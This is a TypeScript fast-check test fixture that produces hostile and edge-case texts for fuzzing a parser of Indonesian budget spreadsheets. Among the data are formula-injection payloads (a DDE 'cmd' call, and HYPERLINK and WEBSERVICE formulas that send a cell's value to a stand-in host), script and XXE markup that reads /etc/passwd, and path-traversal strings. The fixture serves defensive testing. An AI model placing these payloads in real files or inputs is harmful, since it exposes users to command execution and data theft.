// Texts that a sheet, a name or a file may hold to do harm or by accident. Data only; nothing here is ever run.
import fc from 'fast-check';

/** The most characters that Excel keeps in a cell. */
export const LONGEST_CELL = 32_767;

/** Beginnings that Excel would take for a formula. */
export const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '|', '%'] as const;
/** What an attacker would have calculated, called or opened. */
const PAYLOADS = [
  'HYPERLINK("https://contoh.invalid/?"&A1,"klik")',
  "cmd|' /C calc'!A0",
  'WEBSERVICE("https://contoh.invalid/")',
  'SUM(1+1)*cmd|A0',
];
/** Names that mean something to objects. */
export const OBJECT_NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  'length',
  'then',
] as const;
const MARKUP = [
  '<script>globalThis.__dirusak = true</script>',
  '"><img src=x onerror="globalThis.__dirusak=true">',
  ']]></v></c><c r="A1"><f>1+1</f></c>',
  '&lt;b&gt; & "kutip" <!--',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
  '_x000D_ _x0000_ _x005F_',
];
const PATHS = [
  '../../../tmp/dirusak',
  '..\\..\\dirusak',
  '/etc/passwd',
  'C:\\Windows\\win.ini',
  'file:///etc/passwd',
];
const REFERENCES = [
  "O'Brien's [1]",
  "'[buku.xlsx]Lembar'!A1",
  '[1]Target!A1',
  "''",
  "Lembar!'A1",
  'R1C1',
  '#REF!',
];
const WRITING = [
  '\u202E0001.000\u202C',
  '\u200F\u061C1.000',
  'هدف ١٬٢٣٤',
  'e\u0301'.repeat(40),
  'Z\u0300\u0301\u0302\u0303\u0304'.repeat(30),
  '\u200B1\u200B0\u200D0\uFEFF',
  'Pa\u00ADjak',
  '１２３．４５',
  '👩‍👩‍👧‍👦',
  '𝟙𝟚𝟛',
];
const BROKEN = [
  '\u0000',
  'a\u0000b',
  '\u0001\u0008\u001F',
  '\uD800',
  '\uDC00x',
  'x\uD83D',
  '\uFFFE\uFFFF',
  '\u007F\u0085',
];
const TEMPLATES = ['{option}', '{sheet}', '${1+1}', '%s%n', '$&$1$`', '{{x}}', '\\u0000', '\\'];
const NUMBERS = [
  '1e308',
  '1E+999',
  '-0',
  'NaN',
  'Infinity',
  '0x1F',
  '9'.repeat(400),
  `0.${'0'.repeat(400)}1`,
  '1.'.repeat(200),
];

/** Short hostile texts, each of which stands for a kind. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...FORMULA_STARTS.flatMap((start) => PAYLOADS.map((payload) => start + payload)),
  ...OBJECT_NAMES,
  ...MARKUP,
  ...PATHS,
  ...REFERENCES,
  ...WRITING,
  ...BROKEN,
  ...TEMPLATES,
  ...NUMBERS,
];

const LONG = [
  'x'.repeat(LONGEST_CELL),
  '('.repeat(LONGEST_CELL),
  ' '.repeat(LONGEST_CELL),
  '1.'.repeat(LONGEST_CELL / 2),
  'TW I '.repeat(6_000),
  's.d. '.repeat(6_000),
  '-'.repeat(LONGEST_CELL),
  'Rp '.repeat(10_000),
  `${'0'.repeat(LONGEST_CELL - 2)}1,`,
];

/** Words that the readers know, so that random texts come near to what they look for. */
const NEAR = [
  'Target Murni',
  'Target',
  'Realisasi',
  'Januari',
  's.d. September',
  'TW I',
  'Triwulan II',
  'Kode Rekening',
  'Uraian',
  'Satuan',
  '(dalam ribuan rupiah)',
  'Rp juta',
  'JUMLAH',
  'TOTAL',
  'J U M L A H',
  '4.1.01.09',
  '41101',
  '2026',
  'Rp',
  '1.234',
  '1,234.5',
  '1.234,5',
  '(7,56)',
  '148,28%%',
  'n/a',
  'nihil',
  'belum',
  '-',
  '30 September 2026',
  '31/12/2026',
  '%',
  'BB (72,5)',
  '80-90',
  '80 s.d. 90',
  'juta',
  'miliar',
  'ribu',
  'tahun',
  'hari',
  '1 juta 250 ribu',
];

const pieces = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...NEAR) },
  { weight: 2, arbitrary: fc.constantFrom(...HOSTILE_TEXTS) },
  { weight: 2, arbitrary: fc.string({ maxLength: 12 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 8 }) },
  { weight: 2, arbitrary: fc.stringMatching(/^[0-9.,()%\-+ eE/]{1,14}$/) },
);

/** Any text: near to what officers write, hostile, mixed, and now and then as long as a cell can hold. */
export const anyText: fc.Arbitrary<string> = fc.oneof(
  { weight: 12, arbitrary: pieces },
  { weight: 8, arbitrary: fc.array(pieces, { maxLength: 5 }).map((some) => some.join(' ')) },
  { weight: 4, arbitrary: fc.array(pieces, { maxLength: 5 }).map((some) => some.join('')) },
  { weight: 1, arbitrary: fc.constantFrom(...LONG) },
);

/** Doubles that no budget holds beside those that it does. */
export const anyNumber: fc.Arbitrary<number> = fc.oneof(
  fc.double(),
  fc.integer({ min: -10, max: 50_000 }),
  fc.constantFrom(0, -0, 1e308, -1e308, 5e-324, Number.NaN, Infinity, -Infinity, 2 ** 53, 46_023, 0.1 + 0.2),
);

/** What a cell can hold: a reading never has anything else, for a file's other numbers are texts. */
export const finiteNumber: fc.Arbitrary<number> = anyNumber.filter(Number.isFinite);
